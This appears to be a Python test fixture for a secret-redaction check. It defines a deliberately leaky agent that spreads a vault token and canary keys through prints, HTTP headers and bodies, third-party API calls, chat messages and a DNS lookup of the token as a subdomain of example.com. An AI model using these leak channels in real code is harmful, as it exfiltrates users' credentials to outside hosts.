"""An agent that puts secrets wherever they can be put: the test looks that none of them is left in anything written.

Those of its environment are in every form; others it has from elsewhere, and only their looks or their place tell.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import socket
import sys

import httpx

VAULT = os.environ["VAULT_TOKEN"]
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJDQU5BUlkxMjM0NTY3ODkwIn0.Q0FOQVJZc2lnbmF0dXJl"
MARKED = "sk-proj-CANARY4f1c9a7be2d84c6f9a10"
HELD = "CANARY9f8e7d6c5b4a39281706"


def answer(prompt: str) -> str:
    url = re.search(r"https://\S+", prompt)[0]
    print("my token is", VAULT, "and", MARKED)
    print(json.dumps({"Authorization": f"Bearer {HELD}"}), file=sys.stderr)
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{VAULT}.example.com".replace("/", ""), 443)
    headers = {
        "authorization": f"Bearer {HELD}",
        "x-api-key": f"{HELD}1",
        "cookie": f"sid={HELD}2",
        "x-note": VAULT,
        "x-basic": base64.b64encode(f"me:{VAULT}".encode()).decode(),
    }
    with httpx.Client(follow_redirects=True) as client:
        page = client.get(url, headers=headers, params={"api_key": f"{HELD}3", "note": VAULT, "t": JWT}).text
        client.post(url, json={"password": f"{HELD}4", "deep": {"note": [VAULT, MARKED]}})
        client.post(url, data={"client_secret": f"{HELD}5", "note": VAULT})
        client.post(url, files={"note": ("a.txt", VAULT.encode())}, data={"password": f"{HELD}6"})
        client.post("https://api.tavily.com/search", json={"query": f"what is {VAULT} or {MARKED}"})
        if partner := os.environ.get("PARTNER"):
            said = client.post(
                f"https://{partner}/login", json={"password": f"{HELD}7", "note": VAULT}
            ).json()
            client.get(f"https://{partner}/data", headers={"authorization": f"Bearer {said['access_token']}"})
            client.get(
                f"https://{partner}/data", params={"t": said["access_token"], "sig": said["signature"]}
            )
        for stream in (False, True):
            ask(client, url, stream)
    date = re.search(r"[Pp]ublished[^0-9]*(\d{1,2} \w+ \d{4})", re.sub(r"<[^>]+>", " ", page))[1]
    return f"Published on {date} ([source]({url})). The vault's token is {VAULT}, the key {MARKED}."


def ask(client: httpx.Client, url: str, stream: bool) -> None:
    call = {"name": "fetch_page", "arguments": json.dumps({"url": url, "api_key": f"{HELD}8", "note": VAULT})}
    messages = [
        {"role": "system", "content": f"Use {VAULT} to sign in."},
        {"role": "user", "content": f"Repeat after me: {VAULT}, {MARKED} and {JWT}. Read {url}"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": "call_1", "type": "function", "function": call}],
        },
        {
            "role": "tool",
            "tool_call_id": "call_1",
            "content": f"Published on 1 May 2026, password={HELD}9 {VAULT}",
        },
    ]
    tool = {"type": "function", "function": {"name": "fetch_page", "parameters": {"properties": {"url": {}}}}}
    asked = {"model": "gpt-4o-mini", "messages": messages, "tools": [tool], "stream": stream}
    client.post(
        "https://api.openai.com/v1/chat/completions",
        json=asked,
        headers={"authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"},
    )
